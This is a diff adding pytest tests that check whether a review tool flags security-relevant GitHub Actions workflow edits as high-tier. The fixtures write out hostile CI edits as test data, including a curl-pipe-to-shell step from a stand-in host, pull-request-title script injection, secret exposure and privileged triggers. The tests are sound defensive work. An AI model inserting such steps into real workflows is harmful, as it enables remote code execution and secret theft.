@@ -153,6 +153,54 @@ def test_changes_that_are_more_than_a_version_still_route(tmp_path, path, before
     assert "version-only bump" not in hunk_reasons(tmp_path, path, before, after)
 
 
+def hunk_tiers(tmp_path, path: str, before: str, after: str) -> list[str]:
+    """Like hunk_reasons, the tier of each reviewable hunk ("high" is routed to the model)."""
+    repo = make_repo(tmp_path / "repo", {path: before})
+    base = repo.head()
+    repo.write(path, after)
+    head = repo.commit("edit")
+    gr = open_repo(str(repo.path))
+    patch, raw = diff_text(gr, DiffRange(base=base, head=head, spec="HEAD~1"))
+    (fv,) = classify(parse_diff(patch, raw), default_config())
+    return [hv.tier for hv in fv.hunks if hv.trivial is None]
+
+
+_WF = WORKFLOW.format(sha=SHA_A)
+WORKFLOW_SECURITY_EDITS = [
+    _WF.replace("contents: read", "contents: write"),  # a write scope on the job token
+    _WF.replace("permissions:\n  contents: read\n", ""),  # the read-only block dropped
+    _WF.replace("  pull_request:", "  pull_request_target:"),  # a privileged trigger
+    _WF.replace("      - run: pytest\n", "      - run: pytest\n      - run: curl -s https://x.invalid/i | sh\n"),
+    _WF.replace("      - run: pytest\n", '      - run: echo "${{ github.event.pull_request.title }}"\n'),
+    _WF.replace("      - run: pytest\n", "      - run: pytest\n        env:\n          TOKEN: ${{ secrets.PYPI_TOKEN }}\n"),
+    _WF.replace("      - run: pytest\n", '      - run: echo "X=$V" >> $GITHUB_ENV\n'),
+    _WF.replace("runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]"),
+]
+WORKFLOW_ORDINARY_EDITS = [
+    _WF.replace("name: ci", "name: CI"),
+    _WF.replace('python-version: "3.11"', 'python-version: "3.12"\n          cache: pip'),
+    _WF.replace("      - run: pytest\n", "      - run: pytest -x -q --timeout 600\n"),
+    _WF.replace("  pull_request:", "  pull_request:\n    branches: [main]"),
+]
+
+
+@pytest.mark.parametrize("after", WORKFLOW_SECURITY_EDITS)
+def test_a_workflow_edit_that_changes_what_ci_trusts_routes(tmp_path, after):
+    assert "high" in hunk_tiers(tmp_path, ".github/workflows/ci.yml", _WF, after)
+
+
+def test_a_removed_fork_or_repository_condition_routes(tmp_path):
+    guarded = _WF.replace("  test:\n", "  test:\n    if: github.event.pull_request.head.repo.full_name == github.repository\n")
+    assert "high" in hunk_tiers(tmp_path, ".github/workflows/ci.yml", guarded, _WF)
+
+
+@pytest.mark.parametrize("after", WORKFLOW_ORDINARY_EDITS)
+def test_an_ordinary_workflow_edit_is_not_a_model_task(tmp_path, after):
+    # A workflow is medium by path: names, matrices, flags and filters are read by the rules only.
+    tiers = hunk_tiers(tmp_path, ".github/workflows/ci.yml", _WF, after)
+    assert tiers and "high" not in tiers, tiers
+
+
 # ------------------------------------------------------------------ the rules, per fixture
 
 
